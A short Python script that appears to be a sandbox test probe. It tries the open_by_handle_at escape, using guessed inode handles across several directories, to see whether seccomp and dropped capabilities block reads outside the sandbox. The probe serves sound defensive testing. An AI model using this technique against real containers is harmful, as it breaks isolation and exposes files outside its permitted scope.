# class: files
# attack: open_by_handle_at with guessed handles, which ignores every folder's permissions
# success: a handle of another file system's root, or of any inode, is opened
# layers: seccomp, capabilities-dropped
import ctypes
import errno
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
why = set()
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, b"/w", handle, ctypes.byref(mount), 0) == 0:
    why.add("a name gives a handle")
else:
    why.add("name: " + errno.errorcode[ctypes.get_errno()])
for inode in (2, 64, 128, 256):
    guess = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0))
    for path in ("/", "/w", "/py", "/proc"):
        place = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        opened = libc.open_by_handle_at(place, guess, os.O_RDONLY)
        if opened >= 0:
            print("escaped: inode", inode, "of", path)
        else:
            why.add("open: " + errno.errorcode[ctypes.get_errno()])
print("held:", ", ".join(sorted(why)))
